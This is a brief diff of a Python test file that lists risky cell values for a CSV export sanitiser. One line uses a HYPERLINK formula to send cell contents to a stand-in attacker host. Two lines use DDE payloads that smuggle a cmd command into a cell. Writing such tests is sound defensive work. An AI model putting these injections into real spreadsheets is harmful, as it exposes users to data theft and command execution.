@@ -10,7 +10,7 @@ import pytest
 from concours.domain.spreadsheet import csv_text, safe_cell, unescape_cell
 
 RISKY = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+44 20 7946 0000",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
